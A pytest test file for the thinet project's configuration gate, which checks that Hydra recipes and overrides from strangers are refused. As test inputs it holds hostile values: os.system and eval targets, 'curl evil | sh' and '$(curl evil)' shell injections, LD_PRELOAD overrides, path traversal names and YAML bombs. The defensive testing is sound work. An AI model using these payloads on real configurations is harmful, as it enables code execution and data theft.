"""Configurations and overrides from strangers: nothing runs, nothing is written elsewhere."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
import yaml
from hydra import compose, initialize_config_dir
from hydra.core.global_hydra import GlobalHydra

import thinet.app.cli_errors  # installs the checks of configurations
from thinet.app.config import build, check
from thinet.app.config_policy import check_composed
from thinet.app.yaml_limits import check_yaml
from thinet.base.allowlist import find_class, find_target
from thinet.base.errors import ThinetError
from thinet.training.source import build_network

CONF = Path(__file__).parents[2] / "conf"
EVIL = "import pathlib; pathlib.Path({!r}).write_text('ran')"


@pytest.fixture
def hydra_compose(tmp_path, monkeypatch):
    """Compose the real configuration with overrides, and with a recipe of a stranger's if given."""

    def make(*overrides, recipe=None):
        places = []
        if recipe is not None:
            folder = tmp_path / "theirs" / "experiment"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "evil.yaml").write_text("# @package _global_\n" + yaml.safe_dump(recipe))
            places = [f"hydra.searchpath=[file://{tmp_path}/theirs]", "experiment=evil"]
        GlobalHydra.instance().clear()
        thinet.run.identity.register_resolvers()
        with initialize_config_dir(str(CONF), version_base="1.3"):
            return compose("config", [f"paths.outputs={tmp_path / 'outputs'}", *places, *overrides])

    return make


TARGETS = [
    "os.system", "torch.os.system", "torch.load", "torch.hub.load", "builtins.eval",
    "thinet.app.config.hashlib.sha256", "thinet.app.main.shutil.rmtree",
    "torch.optim.adam.torch.os.system",
    "torch.optim.lr_scheduler.StepLR", "thinet.cli.main", "evilmodule.Thing",
    "thinet.pruning.criteria.thinet.dataclass", "thinet..x", "thinet.__main__", "thinet", "",
    "${note}", "torch.optim.SGD\n", "hydra.utils.get_method", "functools.partial",
    "thinet.base.allowlist.importlib.import_module", "thinet.widths.allocate",
    "ａ.ｂ", 3, None, ["os.system"],
]  # fmt: skip


FULL = ("criterion.build", "finetune.optimizer")  # the others have the same code
OTHERS = (
    "reconstruction.build", "dataset.data", "baseline.optimizer", "model.build", "method.build",
)  # fmt: skip
CASES = [(place, target) for place in FULL for target in TARGETS]
CASES += [(place, target) for place in OTHERS for target in (TARGETS[0], TARGETS[6])]


@pytest.mark.parametrize(("place", "target"), CASES, ids=repr)
def test_a_target_is_refused_before_it_is_called(place, target, hydra_compose, tmp_path):
    """Before Hydra by its text, or where it is built by what it is; both in one sentence."""
    group, _, key = place.partition(".")
    with pytest.raises(ThinetError) as caught:
        build_network(build(check(hydra_compose(recipe={group: {key: {"_target_": target}}})))[0])
    assert len(str(caught.value)) > 40
    assert "\n" not in str(caught.value).strip()


def test_a_module_outside_is_not_even_imported(hydra_compose, tmp_path, monkeypatch):
    (tmp_path / "evilmodule.py").write_text(EVIL.format(str(tmp_path / "ran")))
    monkeypatch.syspath_prepend(str(tmp_path))
    for target in ("evilmodule.Thing", "evilmodule.sub.Thing"):
        with pytest.raises(ThinetError, match="THINET_TRUST=evilmodule"):
            find_target(target, ("thinet",), "criterion.build._target_")
    with pytest.raises(ThinetError, match="only names below thinet are made"):
        hydra_compose("criterion.build._target_=evilmodule.Thing")
    assert not (tmp_path / "ran").exists()
    assert "evilmodule" not in sys.modules


def test_ones_own_package_is_let_in_by_the_environment(tmp_path, monkeypatch):
    (tmp_path / "minepackage.py").write_text(
        "from thinet.pruning.criteria.l2 import L2\nclass Mine(L2): pass\nimport os\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setenv("THINET_TRUST", "other, minepackage")
    from thinet.pruning.criteria import Criterion

    found = find_class("minepackage.Mine", Criterion, ("thinet",), "x")
    assert found.__name__ == "Mine"
    for wrong in ("minepackage.os.system", "minepackage.L2x", "minepackages.Mine"):
        with pytest.raises(ThinetError, match=r"refused|does not exist"):
            find_class(wrong, Criterion, ("thinet",), "x")


@pytest.mark.parametrize(
    ("recipe", "words"),
    [
        ({"criterion": {"build": {"_partial_": True}}}, "_partial_ is refused"),
        ({"criterion": {"build": {"_args_": ["x"]}}}, "_args_ is refused"),
        ({"criterion": {"build": {"_call_": "x"}}}, "_call_ is refused"),
        (
            {"criterion": {"build": {"x": {"_target_": "thinet.cli.main"}}}},
            "nothing is made",
        ),
        ({"dataset": {"data": {"mean": [{"_target_": "os.system"}]}}}, "nothing is made"),
        ({"ratio": {"_target_": "os.system"}}, "nothing is made"),
        ({"_target_": "os.system"}, "nothing is made"),
        ({"note": {"_target_": "os.system"}}, "nothing is made"),
        ({"name": "../../x"}, "cannot be the name of a run's folder"),
        ({"name": "/etc/x"}, "cannot be the name"),
        ({"name": ".."}, "cannot be the name"),
        ({"name": "a\nb"}, "cannot be the name"),
        ({"name": "x" * 300}, "cannot be the name"),
        ({"dataset": {"name": "../../x"}}, "cannot be the name"),
        ({"method": {"name": "../x"}}, "is not a method"),
        ({"method": {"name": "prune.torch.os"}}, "is not a method"),
    ],
)
def test_a_recipe_is_refused(recipe, words, hydra_compose):
    with pytest.raises(ThinetError, match=words):
        hydra_compose(recipe=recipe)


LOGGING = {"version": 1, "root": {"handlers": ["h"]}}
CALLBACK = {"_target_": "thinet.sweeps.callback.SweepCallback"}
PLUGINS = "hydra_plugins.hydra_submitit_launcher.submitit_launcher"


@pytest.mark.parametrize(
    ("hydra", "words"),
    [
        ({"callbacks": {"x": {"_target_": "os.system", "command": "id"}}}, "is refused"),
        ({"callbacks": {"x": {"_target_": "thinet.cli.main"}}}, "is not a Callback"),
        ({"callbacks": {"x": {"_target_": "thinet.sweeps.callback.os.system"}}}, "does not exist"),
        ({"callbacks": {"x": {**CALLBACK, "y": {"_target_": "os.system"}}}}, "is refused"),
        ({"callbacks": {"x": "${criterion.build}"}}, "write its value in full"),
        ({"callbacks": {"x": {"_target_": "${note}"}}}, "is refused"),
        ({"callbacks": None}, "."),
        ({"launcher": {"_target_": "os.system"}}, "is refused"),
        ({"launcher": "${criterion.build}"}, "."),
        ({"sweeper": {"_target_": "evil.Sweeper"}}, "is refused"),
        ({"sweeper": {"params": {"x": {"_target_": "os.system"}}}}, "."),
        ({"job_logging": {**LOGGING, "handlers": {"h": {"()": "os.system"}}}}, "could run code"),
        ({"job_logging": {**LOGGING, "handlers": {"h": {"class": "evil.H"}}}}, "could run code"),
        ({"job_logging": {**LOGGING, "handlers": {"h": {
            "class": "logging.StreamHandler", "stream": "ext://os.environ"}}}}, "could run code"),
        ({"job_logging": {**LOGGING, "formatters": {"h": {"class": "evil.F"}}}}, "could run code"),
        ({"job_logging": {**LOGGING, "filters": {"h": {"()": "ext://os.system"}}}}, "could run"),
        ({"job_logging": {**LOGGING, "handlers": {"h": {
            "class": "logging.FileHandler", "filename": "/tmp/evil"}}}}, "write elsewhere"),
        ({"hydra_logging": {**LOGGING, "handlers": {"h": {
            "class": "${note}", "x": 1}}}}, "could run code"),
        ({"job": {"env_set": {"LD_PRELOAD": "/tmp/evil.so"}}}, "LD_PRELOAD is refused"),
        ({"job": {"env_set": {"PYTHONPATH": "/tmp"}}}, "PYTHONPATH is refused"),
        ({"job": {"env_copy": ["SECRET_OF_MINE"]}}, "SECRET_OF_MINE is refused"),
        ({"job": {"name": "../x"}}, "hydra.job.name is refused"),
        ({"run": {"dir": "/tmp/elsewhere"}}, "hydra.run.dir=/tmp/elsewhere is refused"),
        ({"run": {"dir": "${paths.outputs}/../../x"}}, "hydra.run.dir"),
        ({"sweep": {"dir": "/tmp/elsewhere"}}, "hydra.sweep.dir=/tmp/elsewhere is refused"),
        ({"sweep": {"subdir": "../../x"}}, "hydra.sweep.subdir"),
        ({"output_subdir": "../../x"}, "hydra.output_subdir"),
    ],
    ids=lambda value: str(value)[:70] if isinstance(value, dict) else "",
)  # fmt: skip
def test_what_hydra_itself_would_do_is_refused(hydra, words, hydra_compose, monkeypatch):
    monkeypatch.setenv("SECRET_OF_MINE", "123")
    with pytest.raises(Exception, match=words) as caught:
        hydra_compose(recipe={"hydra": hydra})
    if words != ".":
        assert isinstance(caught.value, ThinetError)


SLURM = {"_target_": f"{PLUGINS}.SlurmLauncher", "submitit_folder": "${hydra.sweep.dir}/.s/%j"}
JOBLIB = {"_target_": "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher"}
RAY = {"_target_": "hydra_plugins.hydra_ray_launcher.ray_launcher.RayLauncher"}
OPTUNA = {"_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper"}


@pytest.mark.parametrize(
    ("part", "node", "words"),
    [
        ("launcher", {**SLURM, "setup": ["curl evil | sh"]}, "lines that a shell runs"),
        ("launcher", {**SLURM, "additional_parameters": {"wrap": "x"}}, "lines that a shell runs"),
        ("launcher", {**SLURM, "partition": "gpu\ncurl evil"}, "line break"),
        ("launcher", {**SLURM, "partition": "$(curl evil)"}, "characters of a shell"),
        ("launcher", {**SLURM, "comment": "`id`"}, "characters of a shell"),
        ("launcher", {**SLURM, "submitit_folder": "/home/x"}, "written elsewhere"),
        ("launcher", {**SLURM, "x": {"_target_": "os.system"}}, "nothing is made"),
        ("launcher", {**JOBLIB, "backend": "dask"}, "another package"),
        ("launcher", {**JOBLIB, "pre_dispatch": "9**9**9"}, "formula"),
        ("launcher", {**JOBLIB, "temp_folder": "/etc"}, "written elsewhere"),
        ("launcher", {**RAY, "ray": {"init": {"runtime_env": {"pip": ["x"]}}}}, "start programs"),
        ("launcher", {**RAY, "ray": {"init": {"address": "ray://evil:1"}}}, "another machine"),
        ("launcher", {"_target_": "hydra_plugins.hydra_ray_launcher.ray_aws_launcher.X"}, "shell"),
        ("sweeper", {**OPTUNA, "custom_search_space": "os.system"}, "is refused"),
        ("sweeper", {**OPTUNA, "storage": "postgresql://evil/db"}, "only a file"),
        ("sweeper", {**OPTUNA, "storage": {"_target_": "os.system"}}, "nothing is made"),
        ("sweeper", {**OPTUNA, "sampler": {"_target_": "os.system"}}, "not a sampler"),
        ("sweeper", {**OPTUNA, "sampler": {"_target_": "optuna.samplers.TPESampler",
                     "gamma": {"_target_": "os.system"}}}, "nothing is made"),
        ("sweeper", {**OPTUNA, "storage": "sqlite:///x.db", "sampler": {
            "_target_": "optuna.samplers.CmaEsSampler"}}, "unpickles"),
    ],
    ids=lambda value: str(value)[-60:] if isinstance(value, dict) else "",
)  # fmt: skip
def test_launchers_and_sweepers_get_no_shell_lines(part, node, words, monkeypatch):
    from omegaconf import OmegaConf

    cfg = OmegaConf.create({"hydra": {part: node}})
    with pytest.raises(ThinetError, match=words):
        check_composed(cfg)
    if words == "lines that a shell runs":  # the user's own word, which a file cannot speak
        monkeypatch.setenv("THINET_TRUST", "shell")
        check_composed(cfg)


@pytest.mark.parametrize("preset", sorted(path.stem for path in (CONF / "sweep").glob("*.yaml")))
def test_every_preset_of_ours_passes(preset, hydra_compose):
    try:
        hydra_compose(f"sweep={preset}")
    except ThinetError:
        raise
    except Exception as error:  # its package is not installed
        pytest.skip(str(error)[:80])


@pytest.mark.parametrize("preset", ["none", "stdout", "disabled"])
def test_hydras_own_log_settings_pass(preset, hydra_compose):
    other = "default" if preset == "stdout" else preset
    hydra_compose(f"hydra/job_logging={preset}", f"hydra/hydra_logging={other}")


def test_hydra_writes_no_log(hydra_compose):
    with pytest.raises(ThinetError, match="write elsewhere: choose hydra/job_logging=none, stdout"):
        hydra_compose("hydra/job_logging=default")


def test_a_sweep_keeps_the_callback_that_guards_its_processes(hydra_compose):
    with pytest.raises(ThinetError, match=r"callbacks\.sweep is missing"):
        hydra_compose("~hydra.callbacks.sweep")


def test_secrets_stay_out_of_the_records(hydra_compose, monkeypatch):
    monkeypatch.setenv("WANDB_API_KEY", "s3cret")
    monkeypatch.setenv("SLURM_JOB_ID", "77")
    with pytest.raises(ThinetError, match=r"WANDB_API_KEY.* is refused, because") as caught:
        check(hydra_compose(recipe={"note": "${oc.env:WANDB_API_KEY}"}))
    assert "s3cret" not in str(caught.value)
    assert check(hydra_compose(recipe={"note": "${oc.env:SLURM_JOB_ID}"}))["note"] == "77"
    for text in ("${oc.create:{_target_: os.system}}", "${oc.decode:'{a: 1}'}"):
        with pytest.raises(ThinetError, match="are refused in a configuration"):
            check(hydra_compose(recipe={"note": text}))


def test_a_search_path_in_a_python_package_is_refused(hydra_compose, tmp_path, monkeypatch):
    (tmp_path / "evilpackage").mkdir()
    (tmp_path / "evilpackage" / "__init__.py").write_text(EVIL.format(str(tmp_path / "ran")))
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ThinetError, match="looking for files in a Python package runs it"):
        hydra_compose("hydra.searchpath=[pkg://evilpackage]")
    assert not (tmp_path / "ran").exists()


def test_a_file_that_multiplies_itself_is_refused(tmp_path):
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x,x]"]
    lines += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines))
    with pytest.raises(ThinetError, match="repeats itself too often"):
        check_yaml(bomb)
    bomb.write_text("a: &a [*a]")
    with pytest.raises(ThinetError, match="repeats itself too often"):
        check_yaml(bomb)
    bomb.write_text("a: &a [1]\nb: *a")
    check_yaml(bomb)
    bomb.write_text("a: " + "x" * 2**21)
    with pytest.raises(ThinetError, match="has more than"):
        check_yaml(bomb)


def test_the_gate_holds_for_the_recipe_itself(hydra_compose, tmp_path):
    theirs = tmp_path / "theirs" / "experiment"
    theirs.mkdir(parents=True)
    (theirs / "bomb.yaml").write_text("a: &a [*a]")
    (theirs / "deep.yaml").write_text("a: " + "[" * 3000 + "]" * 3000)
    (theirs / "dashes.yaml").write_text("- " * 3000 + "x")
    (theirs / "steps.yaml").write_text("\n".join(" " * n + "a:" for n in range(900)))
    deep = "nested too deeply"
    for name, words in (("bomb", "repeats"), ("deep", deep), ("dashes", deep), ("steps", deep)):
        with pytest.raises(ThinetError, match=words):
            hydra_compose(f"hydra.searchpath=[file://{tmp_path}/theirs]", f"+experiment={name}")
